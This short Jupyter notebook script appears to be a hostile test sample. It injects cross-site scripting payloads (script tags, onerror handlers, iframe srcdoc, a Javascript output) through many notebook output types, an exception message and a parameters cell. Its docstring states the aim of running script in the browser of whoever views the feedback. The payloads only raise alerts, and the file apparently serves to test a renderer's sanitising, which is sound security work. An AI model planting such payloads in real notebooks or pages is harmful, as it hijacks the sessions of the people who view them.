"""Shows HTML, SVG, JavaScript and Markdown with scripts, under every kind of output that a page might embed.

Gains: a script in the browser of whoever opens the feedback, with the rights of that page.
"""

# %% [reshape]
from IPython.display import HTML, Javascript, Markdown, SVG, display

script = "<script>alert('forged')</script><img src=x onerror=alert(1)><iframe srcdoc='<script>alert(1)</script>'></iframe>"
display(HTML(script), Javascript("alert(1)"), Markdown(script), metadata={"text/html": {"isolated": False}})
display({"text/html": script, "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{script}</svg>",
         "image/png": script, "text/latex": script, "application/x-forged": script, script: script,
         "application/vnd.jupyter.widget-view+json": {"model_id": script}}, raw=True)
raise type(script, (Exception,), {})(script)

# %% [parameters]
parameters = script
